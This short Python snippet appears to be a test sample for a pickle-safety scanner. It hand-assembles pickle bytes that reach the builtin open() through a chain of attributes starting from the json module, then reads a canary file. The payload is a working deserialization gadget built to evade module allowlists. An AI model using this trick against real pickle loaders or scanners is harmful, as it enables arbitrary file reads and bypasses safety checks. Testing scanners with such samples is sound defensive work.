# what: unpickles an attribute of an attribute
import pickle

name = b"decoder.scanner.re.enum.bltns.open"
data = b"\x80\x04\x8c\x04json\x8c" + bytes([len(name)]) + name + b"\x93."
pickle.loads(data)(CANARY_PATH).read()
